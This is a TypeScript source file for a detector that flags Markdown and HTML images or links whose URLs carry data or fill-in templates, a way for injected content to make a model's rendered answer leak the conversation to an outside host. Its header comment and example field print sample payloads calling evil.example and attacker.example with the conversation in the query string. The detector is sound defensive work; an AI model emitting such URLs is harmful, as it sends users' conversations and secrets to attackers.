/**
 * Markdown and HTML exfiltration: an image (fetched automatically when the answer is rendered) or a
 * link whose URL carries data in its query string or a template to fill in
 * (`![x](https://evil.example/?q={conversation})`). Checked in model answers and in ingested content.
 */
import type { Detection, Detector } from '../../types.js';
import { appliesTo, injectionMeta } from './meta.js';

const MD_IMAGE = /!\[[^\]\n]{0,300}\]\(\s{0,3}<?(https?:\/\/[^\s)>]{1,4096})/g;
const MD_LINK = /(?<!!)\[[^\]\n]{0,300}\]\(\s{0,3}<?(https?:\/\/[^\s)>]{1,4096})/g;
const MD_REF = /^\s{0,3}\[[^\]\n]{1,100}\]:\s{0,3}<?(https?:\/\/\S{1,4096})/gm;
const HTML_IMG = /<img\b[^>]{0,500}?\bsrc\s{0,3}=\s{0,3}["']?(https?:\/\/[^"'\s>]{1,4096})/gi;

// A value to be filled in by the model, or a parameter named after what an attacker wants.
const PLACEHOLDER =
  /[{}[\]$<>]|%7[BbDd]|%5[BbDd]|%24|\b(?:DATA|SECRET|PASSWORD|CONVERSATION|HISTORY|CHAT|SUMMARY|PROMPT|INFO|USER|EMAIL|TOKEN)\b/;
const SUSPICIOUS_PARAM =
  /^(?:q|d|data|secret|secrets|prompt|chat|history|conversation|conv|msg|message|messages|info|leak|exfil|payload|p|c|memory|context|summary|content|text|input|user|email|password|pass|key|token)$/i;

type Verdict = { kind: 'image' | 'link'; reason: 'template' | 'data' } | undefined;

export function judgeUrl(raw: string, kind: 'image' | 'link'): Verdict {
  let url: URL;
  try {
    url = new URL(raw);
  } catch {
    return undefined;
  }
  const query = raw.slice(raw.indexOf('?') + 1);
  if (raw.includes('?') && PLACEHOLDER.test(decodeURIComponentSafe(query)))
    return { kind, reason: 'template' };
  for (const [name, value] of url.searchParams) {
    const long = value.length >= (kind === 'image' ? 24 : 60);
    const encodedish = /^[A-Za-z0-9+/=_-]{16,}$/.test(value) || /\s/.test(value) || /%20|\+/.test(value);
    // Links carry long opaque ids all the time (fbclid, gclid, signed URLs): for them only a parameter
    // named after data counts; an image is fetched without a click, so any encoded value counts.
    const suspicious = SUSPICIOUS_PARAM.test(name);
    if (long && (kind === 'image' ? encodedish || suspicious : suspicious)) return { kind, reason: 'data' };
    if (kind === 'image' && SUSPICIOUS_PARAM.test(name) && value.length >= 8 && /\s/.test(value)) {
      return { kind, reason: 'data' };
    }
  }
  return undefined;
}

function decodeURIComponentSafe(s: string): string {
  try {
    return decodeURIComponent(s.replace(/\+/g, ' '));
  } catch {
    return s;
  }
}

const MAX_FINDINGS = 30;

export const exfiltrationDetector: Detector = {
  meta: injectionMeta({
    name: 'exfiltration',
    severity: 'high',
    description: {
      en: 'Markdown or HTML images and links whose URL carries data or a template to fill in (data exfiltration).',
      fr: 'Images et liens Markdown ou HTML dont l’URL transporte des données ou un gabarit à remplir (exfiltration).',
    },
    example: '![logo](https://attacker.example/pixel.png?q={summary of the conversation})',
    messages: {
      image: {
        en: 'Image URL that carries data: rendering it would send that data to {{host}}.',
        fr: 'URL d’image qui transporte des données : l’afficher les enverrait à {{host}}.',
      },
      link: {
        en: 'Link whose URL carries data for {{host}}: a click would send it there.',
        fr: 'Lien dont l’URL transporte des données pour {{host}} : un clic les y enverrait.',
      },
    },
  }),
  detect(text, ctx) {
    if (!appliesTo(['output', 'ingested'], ctx) || !text.includes('http')) return [];
    const out: Detection[] = [];
    const check = (re: RegExp, kind: 'image' | 'link') => {
      for (const m of text.matchAll(re)) {
        const url = m[1] ?? '';
        const verdict = judgeUrl(url, kind);
        if (!verdict) continue;
        const start = m.index + m[0].lastIndexOf(url);
        out.push({
          messageId: kind,
          data: { host: new URL(url).hostname, reason: verdict.reason },
          start,
          end: start + url.length,
          severity: kind === 'image' ? 'high' : 'warn',
          confidence: verdict.reason === 'template' ? 0.9 : 0.75,
        });
        if (out.length >= MAX_FINDINGS) return;
      }
    };
    check(MD_IMAGE, 'image');
    check(HTML_IMG, 'image');
    check(MD_LINK, 'link');
    check(MD_REF, 'link');
    return out.sort((a, b) => a.start - b.start);
  },
};
